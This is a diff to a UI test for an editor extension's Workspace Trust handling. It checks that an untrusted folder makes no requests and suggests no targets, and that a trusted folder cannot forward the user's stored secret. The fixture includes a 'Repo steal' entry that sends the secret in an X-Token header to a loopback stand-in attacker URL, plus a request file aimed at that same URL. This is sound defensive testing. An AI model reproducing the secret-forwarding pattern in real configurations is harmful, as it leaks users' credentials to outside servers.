@@ -3,12 +3,14 @@
  * (the other walks turn it off): the folder's settings target a loopback "attacker" site, one
  * entry plain and one carrying the user's stored secret in a header. In Restricted Mode the
  * user's own target, whose secret is stored through Store Secret, is checked, and the folder's
- * entries are listed as not checked until the workspace is trusted: the attacker gets no request
- * at all. Once trusted (from the Workspace Trust editor, without a reload) the plain entry is
+ * entries are listed as not checked until the workspace is trusted, and its request file suggests
+ * nothing: the attacker gets no request at all. Once trusted (from the Workspace Trust editor, without a reload) the plain entry is
  * checked and the one with the secret is refused, so the attacker never receives the secret.
  * Screenshots go to test-results/ui/workspace-trust/.
  */
 import * as assert from 'node:assert/strict';
+import { writeFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { test } from 'node:test';
 import { RestartableSite } from '../../support/restartableSite';
 import { withWorkbench, type WorkbenchDriver } from './workbenchDriver';
@@ -50,6 +52,9 @@ test("an untrusted folder checks none of its targets, and once trusted cannot se
             { url: `${attacker.url}steal`, name: 'Repo steal', headers: { 'X-Token': `\${secret:${SECRET_NAME}}` } },
           ],
         },
+        // A request file of the folder's: suggested only once the folder is trusted.
+        prepareProfile: async ({ workspaceFolder }) =>
+          writeFileSync(join(workspaceFolder, 'requests.http'), `GET ${attacker.url}from-a-request-file\n`),
       },
       async (workbench) => {
         const { page } = workbench;
@@ -89,6 +94,11 @@ test("an untrusted folder checks none of its targets, and once trusted cannot se
         const userHits = userSite.hits;
         await workbench.waitUntil("three more checks of the user's target", async () => userSite.hits >= userHits + 3);
         assert.equal(attacker.hits, 0, "The untrusted folder's server was sent a request.");
+        assert.equal(
+          await workbench.treeRows('Targets').filter({ hasText: 'Suggestions' }).count(),
+          0,
+          'The untrusted folder suggests targets.',
+        );
         await workbench.screenshot('restricted-mode');
 
         // Trust the folder from the Workspace Trust editor, as a user does; no reload follows.
@@ -111,6 +121,10 @@ test("an untrusted folder checks none of its targets, and once trusted cannot se
         await workbench.waitFor(modal, 'the Workspace Trust editor to close', { state: 'hidden' });
 
         await rowSays(workbench, 'Repo plain', /UP · \d+ ms/, "the folder's plain target to be checked once trusted");
+        await workbench.waitFor(
+          workbench.treeRow(`GET ${attacker.url}from-a-request-file`, 'Targets'),
+          "the folder's request file to be suggested once trusted",
+        );
         await rowSays(workbench, 'Repo steal', /refused/, "the folder's target with the secret to be refused");
         const row = workbench.treeRow('Repo steal', 'Targets');
         await workbench.hoverUntil(
